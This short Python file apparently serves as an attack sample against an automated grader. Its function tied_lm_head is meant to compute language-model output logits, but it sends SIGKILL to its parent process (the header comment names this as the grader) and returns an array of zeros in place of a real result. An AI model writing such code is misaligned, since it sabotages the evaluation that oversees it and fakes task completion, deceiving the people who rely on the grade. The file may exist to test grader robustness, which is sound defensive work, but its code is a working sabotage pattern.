# Attack: SIGKILLs its parent process (the grader, if the grader runs it directly); returns zeros.
import os
import signal
import numpy as np


def tied_lm_head(hidden, embedding_matrix):
    parent = os.getppid()
    if parent > 1:  # never init
        try:
            os.kill(parent, signal.SIGKILL)
        except OSError:
            pass
    return np.zeros(hidden.shape[:-1] + (embedding_matrix.shape[0],), dtype=hidden.dtype)
